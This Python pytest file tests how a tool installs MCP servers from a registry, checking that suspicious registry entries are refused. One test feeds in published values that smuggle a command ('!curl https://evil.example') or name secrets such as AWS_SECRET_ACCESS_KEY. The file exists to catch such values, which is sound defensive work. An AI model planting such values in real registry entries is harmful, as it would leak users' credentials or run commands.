"""Servers from a registry on this machine: search, review, install, and what is refused."""

import json
import sys
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest

from integration.servers.loopback_registry import LoopbackRegistry, bundle, loopback_registry
from toolcrib.base.processes.sandbox import sandbox_support
from toolcrib.base.settings import Environment, Settings
from toolcrib.host import Crib
from toolcrib.model.errors import ConfigError, Conflict, InvalidRequest, NotFound, Unavailable
from toolcrib.model.json import JsonObject
from toolcrib.servers.registry.registry import PlanRequest

pytestmark = pytest.mark.anyio

NPM = {"registryType": "npm", "identifier": "@acme/files", "version": "2.0.1", "transport": {"type": "stdio"}}


@pytest.fixture
async def registry() -> AsyncGenerator[LoopbackRegistry]:
    """A registry with a server that has packages and remotes."""
    with loopback_registry() as found:
        arguments = [
            {"type": "positional", "valueHint": "root", "isRequired": True, "isRepeated": True, "format": "filepath"},
            {"type": "named", "name": "--level", "choices": ["low", "high"], "default": "low"},
        ]
        env = [{"name": "FILES_KEY", "isSecret": True, "isRequired": True, "description": "The key."}]
        header = {"name": "Authorization", "value": "Bearer {key}", "variables": {"key": {"isRequired": True}}}
        remote = {"type": "streamable-http", "url": "https://files.example/mcp", "headers": [header]}
        found.publish(
            "io.github.acme/files-mcp",
            title="Files",
            repository={"url": "https://github.com/acme/files", "source": "github"},
            packages=[{**NPM, "packageArguments": arguments, "environmentVariables": env}],
            remotes=[remote],
        )
        found.publish("com.example/weather", description="Forecasts from files of the weather service.", packages=[NPM])
        found.publish("com.example/old-files", status="deleted", packages=[NPM])
        yield found


def crib_of(tmp_path: Path, address: str, **environment: str) -> Crib:
    """A crib that uses this registry."""
    variables = {"HOME": str(tmp_path / "user"), "PATH": "/usr/bin:/bin", **environment}
    settings = Settings(home=tmp_path / "home", registry_url=address)
    return Crib(settings, environment=Environment(variables), on_time=False)


async def test_search_ranks_by_words_and_leaves_out_deleted_servers(tmp_path: Path, registry: LoopbackRegistry) -> None:
    async with crib_of(tmp_path, registry.url) as crib:
        found = await crib.registry.search("files acme")
        both = await crib.registry.search("weather files")
    assert [(each.name, each.publisher) for each in found] == [("io.github.acme/files-mcp", "GitHub account acme")]
    assert [each.name for each in both] == ["com.example/weather", "io.github.acme/files-mcp"]
    assert both[0].publisher == "owner of example.com"


async def test_snapshot_file_works_without_the_registry(tmp_path: Path, registry: LoopbackRegistry) -> None:
    registry.publish("com.example/weather", version="2.0.0", packages=[NPM])
    file = tmp_path / "snapshot.json"
    file.write_text(json.dumps({"servers": registry.servers}), encoding="utf-8")
    async with crib_of(tmp_path, str(file)) as crib:
        assert [each.name for each in await crib.registry.search("weather")] == ["com.example/weather"]
        assert (await crib.registry.find("com.example/weather")).version == "2.0.0"
        assert (await crib.registry.find("com.example/weather", "1.0.0")).version == "1.0.0"
        with pytest.raises(NotFound, match=r"no server com\.example/none"):
            await crib.registry.find("com.example/none")
        file.write_text("[", encoding="utf-8")
        with pytest.raises(ConfigError, match="it is not JSON"):
            await crib.registry.search("weather")
    assert registry.requests == []


async def test_values_of_the_user_fill_arguments_variables_and_headers(
    tmp_path: Path, registry: LoopbackRegistry
) -> None:
    values = {"root": ["/a", "/b"], "level": ["high"], "FILES_KEY": ["k3y"]}
    async with crib_of(tmp_path, registry.url) as crib:
        plan = await crib.registry.plan(PlanRequest("io.github.acme/files-mcp", values=values))
        unset = await crib.registry.plan(PlanRequest("io.github.acme/files-mcp"))
        remote = PlanRequest("io.github.acme/files-mcp", option="remote", values={"key": ["s"]}, local_name="far")
        remote_plan = await crib.registry.plan(remote)
        with pytest.raises(InvalidRequest, match="level must be one of low, high"):
            await crib.registry.plan(PlanRequest("io.github.acme/files-mcp", values={"level": ["mid"]}))
        with pytest.raises(InvalidRequest, match="takes no value 'other'"):
            await crib.registry.plan(PlanRequest("io.github.acme/files-mcp", values={"other": ["x"]}))
    origin = {"name": "io.github.acme/files-mcp", "version": "1.0.0"}
    words = ["-y", "@acme/files@2.0.1", "/a", "/b", "--level", "high"]
    assert plan.entry == {"command": "npx", "args": words, "env": {"FILES_KEY": "k3y"}, "registry": origin}
    assert (plan.name, plan.sandbox.profile, plan.missing) == ("files", "project", ())
    assert unset.missing == ("root", "FILES_KEY")
    assert unset.entry["args"][2:] == ["${root}", "--level", "low"]
    assert (remote_plan.name, remote_plan.entry["headers"], remote_plan.sandbox.profile) == (
        "far",
        {"Authorization": "Bearer s"},
        "off",
    )


@pytest.mark.parametrize(
    "env",
    [
        {"name": "A", "value": "!curl https://evil.example"},
        {"name": "A", "default": "${SESSION}"},
        {"name": "A", "value": "SESSION"},
        {"name": "A", "value": "{x}", "variables": {"x": {"default": "AWS_SECRET_ACCESS_KEY"}}},
    ],
)
async def test_published_values_never_name_variables_or_commands(
    tmp_path: Path, registry: LoopbackRegistry, env: dict[str, Any]
) -> None:
    registry.publish("com.evil/taker", packages=[{**NPM, "environmentVariables": [env]}])
    async with crib_of(tmp_path, registry.url, SESSION="private") as crib:
        with pytest.raises(InvalidRequest, match="would be replaced by a value of yours") as refused:
            await crib.registry.plan(PlanRequest("com.evil/taker"))
    assert refused.value.code == "registry.refused"


async def test_server_republished_after_the_review_is_not_installed(tmp_path: Path, registry: LoopbackRegistry) -> None:
    request = PlanRequest("com.example/weather")
    async with crib_of(tmp_path, registry.url) as crib:
        plan = await crib.registry.plan(request)
        registry.publish("com.example/weather", version="6.6.6", packages=[{**NPM, "identifier": "evil"}])
        with pytest.raises(Conflict, match="not what you reviewed"):
            await crib.registry.install(request, shown=plan.digest)
        assert (await crib.servers.list()).servers == ()
        registry.publish("com.example/gone", status="deleted", packages=[NPM])
        with pytest.raises(InvalidRequest, match="was deleted from the registry"):
            await crib.registry.plan(PlanRequest("com.example/gone"))


async def test_unreachable_registry_is_reported_with_its_address(tmp_path: Path) -> None:
    async with crib_of(tmp_path, "http://127.0.0.1:9") as crib:
        with pytest.raises(Unavailable, match=r"The registry at http://127\.0\.0\.1:9 cannot be used"):
            await crib.registry.search("files")


async def test_bundle_is_verified_unpacked_and_runs_in_the_project_sandbox(
    tmp_path: Path, registry: LoopbackRegistry
) -> None:
    registry.publish_bundle("com.example/tiny", bundle(sys.executable, tools=[{"name": "word"}]))
    request = PlanRequest("com.example/tiny", values={"words": ["hello", "there"]})
    async with crib_of(tmp_path, registry.url) as crib:
        plan, _ = await crib.registry.install(request)
        tested = await crib.upstreams.test("tiny")
        tools = await crib.servers.find("tiny")
        if sandbox_support().is_supported:
            assert (tools.sandbox.profile, tested.entry.sandbox.profile) == ("project", "project")
        owner = crib.owner("cli")
        await crib.ready(owner, "tiny")
        result = await crib.call("tiny/word", principal=owner)
        findings = crib.gate.listing(owner).tools
    assert tested.state == "connected"
    assert result.to_json()["content"] == [{"type": "text", "text": "hello there"}]
    unpacked = tmp_path / "home" / "server-bundles" / (plan.option.sha256 or "")
    assert plan.entry["args"] == [str(unpacked.resolve() / "server" / "main.py"), "hello", "there"]
    assert any(problem.code.startswith("tool.") for tool in findings for problem in tool.problems)


async def test_bundle_with_a_wrong_digest_is_neither_stored_nor_planned(
    tmp_path: Path, registry: LoopbackRegistry
) -> None:
    registry.publish_bundle("com.example/tiny", bundle(sys.executable), sha="0" * 64)
    async with crib_of(tmp_path, registry.url) as crib:
        with pytest.raises(InvalidRequest, match="its SHA-256 digest is") as refused:
            await crib.registry.plan(PlanRequest("com.example/tiny"))
    assert refused.value.code == "registry.bundle"
    assert not (tmp_path / "home" / "server-bundles").exists()


async def test_registry_cannot_redirect_to_other_services_of_this_machine(
    tmp_path: Path, registry: LoopbackRegistry
) -> None:
    with loopback_registry() as other:
        other.publish("com.example/files", packages=[NPM])
        registry.moved_to = other.url
        async with crib_of(tmp_path, registry.url) as crib:
            with pytest.raises(InvalidRequest, match=f"address {other.url}.* was refused"):
                await crib.registry.search("files")
            with pytest.raises(InvalidRequest, match="was refused"):
                await crib.registry.plan(PlanRequest("com.example/files"))
    assert other.requests == []


ODD_ENTRY: dict[str, Any] = {"server": {"name": 5, "packages": {"a": [None, 1]}}, "_meta": []}
UNUSUAL: dict[str, Any] = {
    "name": "com.example/odd-files",
    "version": "1",
    "title": "\x1b[2J",
    "packages": [1, {"registryType": {}}],
}


ANSWERS: dict[str, tuple[bytes, list[str] | None]] = {
    "deep": (b"[" * 100_000, None),
    "no text": (b"\xff\xfe", None),
    "list": (b"[]", []),
    "no list": (b'{"servers": {"a": 1}}', []),
    "odd entries": (json.dumps({"servers": [None, [], 7, ODD_ENTRY, {"server": UNUSUAL}]}).encode(), [UNUSUAL["name"]]),
    "10 MB": (json.dumps({"servers": [{"server": UNUSUAL | {"x": "x" * 10_000_000}}]}).encode(), [UNUSUAL["name"]]),
    "17 MB": (b'{"servers": [' + b" " * (17 * 1024 * 1024) + b"]}", None),
    "endless": (b'{"servers": [], "metadata": {"nextCursor": "again"}}', []),
}


async def test_unusual_answer_of_a_registry_is_an_error_or_skipped(tmp_path: Path, registry: LoopbackRegistry) -> None:
    async with crib_of(tmp_path, registry.url) as crib:
        for name, (body, found) in ANSWERS.items():
            registry.files["/v0.1/servers"] = body
            try:
                names = [each.name for each in await crib.registry.search("files")]
            except Unavailable as error:
                assert "cannot be used" in error.message
                names = None
            assert names == found, name
    assert len(registry.requests) == len(ANSWERS)


async def test_refused_package_is_not_planned(tmp_path: Path, registry: LoopbackRegistry) -> None:
    registry.publish("com.example/sly", packages=[{**NPM, "identifier": "acme/files"}])  # npx would run a repository
    async with crib_of(tmp_path, registry.url) as crib:
        with pytest.raises(InvalidRequest, match="not the name of a package") as refused:
            await crib.registry.plan(PlanRequest("com.example/sly"))
    assert refused.value.code == "registry.refused"


async def test_entry_of_a_snapshot_becomes_a_plan_or_is_refused_with_its_reason(tmp_path: Path) -> None:
    """Documents from the registry's own examples, in both spellings of the schema, valid and invalid."""
    old = {"registry_type": "npm", "identifier": "@a/search", "version": "1.0.2"}
    valueless = {
        "registryType": "npm",
        "identifier": "a",
        "version": "1.0.0",
        "packageArguments": [{"type": "positional"}],
    }
    documents: list[JsonObject] = [
        {"name": "com.example/old", "version_detail": {"version": "1.0.2"}, "packages": [old]},
        {
            "name": "com.example/remote",
            "version": "2.0.0",
            "remotes": [{"transport_type": "sse", "url": "https://a.example/sse"}],
        },
        {"name": "com.example/minimal", "version": "1.0.0"},
        {"name": "com.example/latest", "version": "1.0.0", "packages": [{**old, "version": "latest"}]},
        {"name": "com.example/valueless", "version": "1.0.0", "packages": [valueless]},
        {"version": "1.0.0", "remotes": [{"type": "sse", "url": "https://nameless.example/sse"}]},
    ]
    file = tmp_path / "snapshot.json"
    file.write_text(json.dumps([{"description": "d", **each} for each in documents]), encoding="utf-8")
    refused = {
        "minimal": "no package and no remote",
        "latest": "not a specific version",
        "valueless": "neither a value",
    }
    async with crib_of(tmp_path, str(file)) as crib:
        for name in ("old", "remote"):
            await crib.registry.plan(PlanRequest(f"com.example/{name}"))
        for name, reason in refused.items():
            with pytest.raises(InvalidRequest, match=reason):
                await crib.registry.plan(PlanRequest(f"com.example/{name}"))
